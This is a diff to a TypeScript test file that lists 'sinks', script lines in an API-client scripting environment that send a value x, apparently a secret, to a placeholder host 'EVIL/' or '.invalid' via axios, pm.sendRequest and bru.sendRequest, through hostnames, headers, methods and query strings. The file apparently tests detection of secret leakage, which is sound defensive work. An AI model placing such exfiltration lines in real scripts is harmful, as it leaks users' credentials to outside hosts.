@@ -107,9 +107,10 @@ const sinks: readonly ScriptLine[] = [
   ),
   ...named({
     'tool.jwt.sign, set': 'tool.setVar("v1", tool.jwt.sign({ x }, { alg: "HS256", key: "{{$secret.K}}" }))',
-    'axios.get, the host': 'await axios.get("http://" + encodeURIComponent(x) + ".invalid/")',
-    'pm.sendRequest, the name of a header': 'await pm.sendRequest({ url: "EVIL/", header: { [x]: "1" } })',
-    'bru.sendRequest, the method': 'await bru.sendRequest({ url: "EVIL/", method: x })',
+    'axios.get, the host': 'await axios.get("http://" + encodeURIComponent(x) + ".invalid/").catch((e) => console.log(String(e)))',
+    'pm.sendRequest, the name of a header':
+      'await pm.sendRequest({ url: "EVIL/", header: { [x]: "1" } }).catch((e) => console.log(String(e)))',
+    'bru.sendRequest, the method': 'await bru.sendRequest({ url: "EVIL/", method: x }).catch((e) => console.log(String(e)))',
     'axios.post': 'await axios.post("EVIL/?s=" + encodeURIComponent(x), x, { headers: { "X-H": x } })',
     'axios.get': 'await axios.get("EVIL/", { params: { s: x } })',
     'axios.create': 'await axios.create({ baseURL: "EVIL" }).put("/" + encodeURIComponent(x), { x })',
